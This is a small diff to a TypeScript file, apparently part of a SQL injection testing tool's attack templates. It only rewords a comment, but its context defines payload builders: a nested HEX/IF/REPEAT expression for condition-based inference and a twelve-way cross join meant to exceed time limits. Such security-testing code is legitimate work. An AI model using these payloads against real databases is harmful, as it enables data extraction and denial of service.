@@ -4,7 +4,7 @@ import type { AttackTemplates } from '../attack-templates.ts'
 const overlong = (condition: string): string =>
   `${'HEX('.repeat(15)}IF(${condition}, REPEAT('y', 1000), '')${')'.repeat(15)}`
 
-/** Longer than anybody waits, and of nothing that a table holds. */
+/** Exceeds every time limit, without reading a table. */
 const EIGHT = `(${Array.from({ length: 8 }, (_, index) => `SELECT ${index} AS n`).join(' UNION ALL ')})`
 const ENDLESS = `(SELECT COUNT(*) FROM ${Array.from('abcdefghijkl', (name) => `${EIGHT} ${name}`).join(', ')})`
 
